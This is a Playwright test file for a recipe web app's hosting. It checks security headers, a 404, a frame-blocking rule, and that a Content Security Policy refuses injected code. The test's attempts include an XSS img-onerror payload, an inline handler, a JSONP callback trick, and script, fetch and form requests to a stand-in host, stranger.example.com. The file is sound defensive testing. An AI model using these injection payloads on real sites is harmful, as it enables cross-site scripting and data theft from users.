import { readFileSync } from 'node:fs';
import { join } from 'node:path';
// Playwright's own `test`: the journeys' `test` fails on a violation.
import { expect, test } from '@playwright/test';
import { securityHeaders } from '@/hosting/securityHeaders';
import { hostedServer } from '../servers';

const html = readFileSync(join(import.meta.dirname, '../..', hostedServer.outDir, 'index.html'), 'utf8');

test('a visitor gets the security headers with every response, and 404 for a missing file', async ({
  request,
}) => {
  const page = await request.get(hostedServer.url);
  const expected = Object.entries(securityHeaders(hostedServer.env, html));
  expect(page.headers()).toMatchObject(
    Object.fromEntries(expected.map(([name, value]) => [name.toLowerCase(), value])),
  );
  expect((await request.get(`${hostedServer.url}assets/gone.js`)).status()).toBe(404);
});

test('a cook’s hostile recipe runs no code, and the page sends nothing to another host', async ({ page }) => {
  const asked: string[] = [];
  await page.route('**://stranger.example.com/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'document.title = "taken over"' });
  });
  await page.goto(hostedServer.url);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  const attempts = await page.evaluate(async () => {
    const stranger = 'https://stranger.example.com/x.js';
    const script = () => document.head.appendChild(document.createElement('script'));
    const outcome = (attempt: () => unknown) =>
      Promise.resolve()
        .then(attempt)
        .then(
          () => 'done',
          () => 'refused',
        );
    /** For violations that do not throw. */
    const refusal = (directive: string) =>
      new Promise<void>((resolve, reject) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === directive) reject();
        });
        // Only reached if nothing is blocked.
        setTimeout(resolve, 20_000);
      });
    return {
      markup: await outcome(() => {
        document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">';
      }),
      handler: await outcome(() => document.body.setAttribute('onclick', 'alert(1)')),
      text: await outcome(() => {
        script().text = 'document.title = "taken over"';
      }),
      stranger: await outcome(() => {
        script().src = stranger;
      }),
      otherGoogle: await outcome(() => {
        script().src = 'https://www.google.com/complete/search?callback=alert';
      }),
      policy: await outcome(() => Reflect.get(window, 'trustedTypes').createPolicy('stranger', {})),
      call: await outcome(() => fetch(stranger)),
      style: await outcome(() => {
        document.head.appendChild(document.createElement('style')).textContent = 'body { display: none }';
        return refusal('style-src-elem');
      }),
      styleAttribute: await outcome(() => {
        document.body.setAttribute('style', 'display: none');
        return refusal('style-src-attr');
      }),
      form: await outcome(() => {
        const form = document.body.appendChild(document.createElement('form'));
        form.action = stranger;
        form.submit();
        return refusal('form-action');
      }),
    };
  });
  expect(Object.entries(attempts).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
  expect(page.url()).toBe(hostedServer.url);
  expect(asked).toEqual([]);
});

test('a visitor is not shown Sazón in another site’s frame', async ({ page }) => {
  const failed = page.waitForEvent('requestfailed', (request) => request.url() === hostedServer.url);
  await page.setContent(`<iframe src="${hostedServer.url}"></iframe>`);
  expect((await failed).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
});
